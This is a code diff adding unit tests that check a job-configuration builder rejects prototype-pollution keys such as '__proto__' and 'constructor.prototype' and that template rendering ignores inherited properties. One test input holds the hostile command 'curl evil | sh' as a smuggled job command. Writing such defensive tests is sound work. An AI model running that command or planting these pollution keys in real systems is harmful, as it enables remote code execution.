@@ -35,6 +35,10 @@ describe('renderTemplate', () => {
       home: '/srv',
     });
   });
+
+  it('finds own values only: nothing from the prototype every object shares', () => {
+    expect(renderTemplate({ a: '{{ toString }}', b: 'x{{ constructor.name }}', c: '{{ $toString }}' }, {}, {})).toEqual({ b: 'x', c: '' });
+  });
 });
 
 describe('buildJobConfiguration', () => {
@@ -52,5 +56,21 @@ describe('buildJobConfiguration', () => {
           'Invalid job variables for run r of a/b in pool "p": unknown variable "imageName" (this pool\'s variables: command, env, labels, name, image, imagePullPolicy, networks, volumes, autoRemove, memLimit); networks must be array; autoRemove must be boolean',
       }),
     );
+  });
+
+  it.each([
+    [{}, { '__proto__.command': 'curl evil | sh' }, '__proto__.command', "the run's job variables", '__proto__'],
+    [{ 'constructor.prototype.command': 'x' }, {}, 'constructor.prototype.command', "the deployment's job variables", 'constructor'],
+    [{}, { prototype: { command: 'x' } }, 'prototype', "the run's job variables", 'prototype'],
+    [{ env: JSON.parse('{"__proto__": {"A": "1"}}') }, {}, 'env.__proto__', "the deployment's job variables", '__proto__'],
+  ])('refuses a key that reaches the shared prototype (%#), naming it and the run, and changes no object', (deployment, run, key, source, bad) => {
+    expect(() => buildJobConfiguration(defaultBaseJobTemplate('process'), deployment, run, 'run r of a/b in pool "p"')).toThrow(
+      expect.objectContaining({
+        code: 'JOB_VARIABLES_INVALID',
+        message: `Invalid job variables for run r of a/b in pool "p": the key "${key}" in ${source} names "${bad}", which reaches the prototype every object of the worker shares; remove or rename it`,
+      }),
+    );
+    expect(({} as Record<string, unknown>).command).toBeUndefined();
+    expect((Object as unknown as Record<string, unknown>)['prototype.command']).toBeUndefined();
   });
 });
